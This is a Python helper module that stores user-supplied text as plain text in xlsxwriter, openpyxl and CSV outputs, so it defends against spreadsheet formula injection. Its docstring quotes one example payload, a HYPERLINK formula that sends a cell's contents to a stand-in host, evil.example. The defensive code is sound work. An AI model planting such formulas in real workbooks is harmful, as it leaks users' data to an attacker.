"""Text from users stored as text, in every workbook and CSV the project writes.

A school's cell typed as ``=HYPERLINK("http://evil.example/?d="&A2,"Xem hướng dẫn")`` is
text in its return; copied into an annotated copy, a consolidated workbook, an appraisal or
a ranking, or a CSV export, it must stay text, or the office's spreadsheet program runs it
(formula injection, "CSV injection"). Writers differ in how a string becomes a formula
(openpyxl: any string starting with "="; xlsxwriter: ``write()``/``merge_range`` with
"="; a spreadsheet opening a CSV: a cell starting with = + - @ TAB or CR), so every writer
calls the one function here instead of choosing by itself.
"""

from __future__ import annotations

from typing import Any

#: What makes a spreadsheet read a CSV cell (or a typed cell) as a formula.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")


def store_text(text: Any, into: Any = None, row: int = 0, col: int = 0,
               fmt: Any = None) -> str:
    """Store ``text`` as text and return what was stored.

    * ``into`` an xlsxwriter worksheet: ``write_string`` at zero-based (``row``, ``col``)
      with ``fmt`` (an empty text writes a blank that keeps ``fmt``'s border);
    * ``into`` an openpyxl cell: its value, typed as a string (``data_type = "s"``), with
      the characters XML cannot carry dropped;
    * ``into`` None (CSV and other plain exports): the text, with a leading apostrophe when
      it starts with one of ``FORMULA_LEADS`` (the convention spreadsheets show as text).
    """
    text = "" if text is None else str(text)
    if into is None:
        return "'" + text if text.startswith(FORMULA_LEADS) else text
    if hasattr(into, "write_string"):  # xlsxwriter
        if text:
            into.write_string(row, col, text, fmt)
        else:
            into.write_blank(row, col, None, fmt)
        return text
    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

    text = ILLEGAL_CHARACTERS_RE.sub("", text)
    into.value = text or None
    if text:
        into.data_type = "s"
    return text
